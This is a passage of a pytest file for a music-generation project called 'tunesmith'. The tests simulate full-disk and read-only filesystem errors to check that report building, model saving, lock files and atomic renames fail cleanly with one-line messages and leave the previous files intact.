    monkeypatch.setattr("tunesmith.report.assets.shutil.copyfile", _fail(errno.ENOSPC))
    with pytest.raises(ArtifactError, match="No space left on device") as err:
        build_report({"essen": {"samples": [dict(name=r.name, midi=r.midi) for r in records]}}, report)
    assert str(tmp_path) in str(err.value) and ".tmp" not in str(err.value)
    assert (report / "index.html").read_text() == "previous report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report", "samples"]


def test_saving_a_model_on_a_full_disk_is_one_line_and_the_previous_model_stays(tmp_path, monkeypatch,
                                                                                 tiny_model_copy):
    from tunesmith.training import bundle

    before = {p.name: p.read_bytes() for p in tiny_model_copy.iterdir() if p.is_file()}
    model, model_cfg, train_cfg, vocab = bundle.load_model_bundle(tiny_model_copy)
    monkeypatch.setattr(type(model), "save", _fail(errno.ENOSPC))
    with pytest.raises(ArtifactError) as err:
        bundle.save_model_bundle(model, tiny_model_copy, vocab, model_cfg, train_cfg)
    assert str(tiny_model_copy / "model.keras") in str(err.value) and "No space left" in str(err.value)
    assert {p.name: p.read_bytes() for p in tiny_model_copy.iterdir() if p.is_file()} == before


def test_a_stage_that_hits_a_full_disk_outside_an_atomic_write_stops_in_one_line(tmp_path, capsys, caplog):
    from tunesmith.pipeline.common import run

    def main(args, params):
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "live" / "metrics.json"))

    (tmp_path / "params.yaml").write_text((ROOT / "params.yaml").read_text())
    with pytest.raises(SystemExit) as stop:
        run(main, __import__("argparse").Namespace(params=tmp_path / "params.yaml", corpus="essen"))
    assert stop.value.code == 2 and "Traceback" not in capsys.readouterr().err
    errors = [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
    assert errors == [f"cannot write in {tmp_path / 'live'}: No space left on device"]


def test_a_lock_that_cannot_be_created_is_one_line_naming_the_folder(tmp_path, monkeypatch):
    real_open = os.open

    def refuse(path, flags, *args):
        if str(path).endswith(".lock"):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real_open(path, flags, *args)

    monkeypatch.setattr(os, "open", refuse)
    with pytest.raises(ArtifactError) as err:
        io.write_json(tmp_path / "out.json", {})
    assert str(tmp_path) in str(err.value) and "Read-only file system" in str(err.value)
    assert not (tmp_path / "out.json").exists()


def test_a_folder_whose_final_rename_fails_is_put_back_as_it_was(tmp_path, monkeypatch):
    out = tmp_path / "report"
    out.mkdir()
    (out / "index.html").write_text("previous report")
    real_rename = Path.rename

    def rename(self, target):
        if ".tmp" in self.name:  # the new folder onto the report's name: the disk is full
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_rename(self, target)

    monkeypatch.setattr(Path, "rename", rename)
    with pytest.raises(ArtifactError, match="No space left"), io.atomic_path(out) as tmp:
        tmp.mkdir()
        (tmp / "index.html").write_text("new report")
    assert (out / "index.html").read_text() == "previous report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]
